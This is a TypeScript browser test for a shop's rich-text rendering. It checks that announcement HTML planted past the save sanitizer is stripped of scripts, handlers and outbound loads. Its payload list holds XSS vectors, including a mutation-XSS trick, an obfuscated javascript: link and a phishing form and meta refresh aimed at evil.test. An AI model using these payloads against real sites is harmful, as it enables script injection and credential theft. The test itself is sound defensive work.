import { announcementsOf } from '../demo-data.ts';
import { originOf, sql } from '../product.ts';
import { copyShop, newHost } from '../shop-copy.ts';
import { expect, openPage, test } from '../test.ts';

/** Each tries to run, to load or to lead somewhere (S35). */
const hostile = [
  '<img src="/nothing.png" onerror="window.hit = 1">',
  '<svg><script>window.hit = 2</script></svg>',
  '<svg onload="window.hit = 3"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=window.hit=4>">',
  '<a href="javascript:window.hit = 5" id="trap">trap</a>',
  '<a href=" java\tscript:window.hit = 6">trap</a>',
  '<p style="background: url(https://evil.test/pixel)">pixel</p>',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test/"><input name="password"><button>Sign in</button></form>',
  '<iframe srcdoc="<script>parent.hit = 7</script>"></iframe>',
  '<meta http-equiv="refresh" content="0; url=https://evil.test/">',
  '<object data="https://evil.test/"></object><embed src="https://evil.test/">',
  '<script>window.hit = 8</script>',
  '<style>body { display: none }</style>',
  '</div></main><h1>closed too early</h1>',
].join('\n');

// The picture that is not there is asked for on the shop's own host, which is allowed.
test.use({ meets: [404] });

test('hostile HTML in a shop’s own text neither runs nor loads nor leads away', async ({ page }) => {
  const shop = await copyShop('northstar.localhost', newHost('hostile'));
  const [announcement] = await announcementsOf(shop);
  // Past the sanitizer of the save: the one that guards the showing must hold alone (A63).
  await sql('update announcement set contents = $1 where tenant_id = $2 and id = $3', [
    JSON.stringify({ en: `${hostile}<p>The harmless end.</p>` }),
    shop.tenantId,
    announcement!.id,
  ]);
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(originOf(shop.host))) elsewhere.push(request.url());
  });
  await openPage(page, shop.host, `/news-detail?id=${announcement!.id}&lang=en`);
  const content = page.locator('.rich-text');
  await expect(content).toContainText('The harmless end.');
  await expect(
    content.locator('script, style, form, iframe, object, embed, base, meta, svg, math'),
  ).toHaveCount(0);
  const handlers = await content
    .locator('*')
    .evaluateAll((all) =>
      all
        .flatMap((one) => one.getAttributeNames())
        .filter((name) => name.startsWith('on') || name === 'style'),
    );
  expect(handlers).toEqual([]);
  await expect(content.locator('a[href*="script:"]')).toHaveCount(0);
  await expect(page.getByRole('main').getByText('closed too early')).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
  expect(elsewhere).toEqual([]);
});
